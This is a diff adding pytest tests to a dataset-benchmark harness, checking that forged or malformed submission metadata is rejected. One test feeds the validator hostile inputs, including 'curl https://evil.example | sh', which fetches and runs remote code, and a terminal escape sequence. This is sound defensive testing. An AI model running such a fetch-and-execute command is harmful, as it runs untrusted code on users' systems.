@@ -7,6 +7,7 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+import yaml
 
 from harness import canonical
 from harness.coresets import SELECTORS
@@ -15,7 +16,7 @@ from harness.datasets import dataset_spec, load_split
 from harness.datasets.base import Split
 from harness.distill.method import Source
 from harness.distill.registry import DISTILLERS
-from harness.errors import CheckFailed, UsageError
+from harness.errors import CheckFailed, SubmissionError, UsageError
 from harness.hub import fetch_set
 from harness.imageset import EncodedImages
 from harness.intake import read_set
@@ -126,6 +127,45 @@ def test_a_set_that_was_changed_after_it_was_made_is_found_out(tmp_path):
     with pytest.raises(CheckFailed, match="not what its method writes") as caught:
         verify_submission(tmp_path, tmp_path / made.relative_path)
     assert "draw1.json" in caught.value.where
+
+
+def test_only_the_projects_own_file_is_verified_not_a_copy_elsewhere(tmp_path):
+    made = make_coreset(tmp_path, "random", "digits", 1, 1)
+    copy = tmp_path / "elsewhere" / "random" / "digits-ipc1.yaml"
+    copy.parent.mkdir(parents=True)
+    copy.write_text((tmp_path / made.relative_path).read_text().replace("Random Real", "Forged"))
+    with pytest.raises(SubmissionError, match="wrong place"):
+        verify_submission(tmp_path, copy)
+
+
+@pytest.mark.parametrize(
+    "odd",
+    [
+        {"inputs": {}},
+        {"inputs": {"a": "0" * 64, "b": "1" * 64}},
+        {"parameters": {}},
+        {"parameters": {"order": "lowest", "window": "x"}},
+    ],
+)
+def test_an_odd_account_of_how_a_set_was_made_is_an_error_and_no_crash(tmp_path, train, odd):
+    scores = tmp_path / "mine.npy"
+    np.save(scores, np.arange(len(train), dtype=np.float32))
+    made = make_from_scores(tmp_path, scores, "digits", 1, "lowest", 0.0, "mine")
+    path = tmp_path / made.relative_path
+    keys = yaml.safe_load(path.read_text())
+    path.write_text(yaml.safe_dump({**keys, "made_by": {**keys["made_by"], **odd}}))
+    with pytest.raises(SubmissionError, match="made_by does not say"):
+        verify_submission(tmp_path, path, None, scores)
+
+
+@pytest.mark.parametrize("command", ["curl https://evil.example | sh", "hlbench select \x1b[31m", "hlbench run x"])
+def test_a_command_that_is_none_of_ours_is_refused(tmp_path, command):
+    made = make_coreset(tmp_path, "random", "digits", 1, 1)
+    path = tmp_path / made.relative_path
+    made_by = {"command": command, "split_fingerprint": "0" * 64}
+    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "made_by": made_by}))
+    with pytest.raises(SubmissionError, match="schema"):
+        read_submission(path)
 
 
 def test_a_set_of_somebody_elses_method_cannot_be_made_again(tmp_path):
